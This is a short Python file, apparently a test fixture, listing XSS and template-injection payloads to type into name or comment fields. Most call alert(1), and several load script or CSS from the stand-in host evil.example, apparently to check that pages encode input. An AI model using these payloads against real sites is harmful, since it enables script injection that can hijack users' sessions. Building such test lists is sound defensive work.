"""What somebody who means harm types where a name, a remark or a reason is asked for."""

_PRODUCT = "2718281*3141593"
# What a template makes of it: longer than anything that random keys and tokens on a page hold by chance.
EVALUATED = str(2718281 * 3141593)

# Every one would call alert(1), or show that a template was evaluated, on a page that does not encode it.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert&#40;1&#41;>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    f"{{{{{_PRODUCT}}}}}{{% debug %}}${{{_PRODUCT}}}",
    "\u2028alert(1)\u2029<\u0130mg src=x onerror=alert(1)>",
)
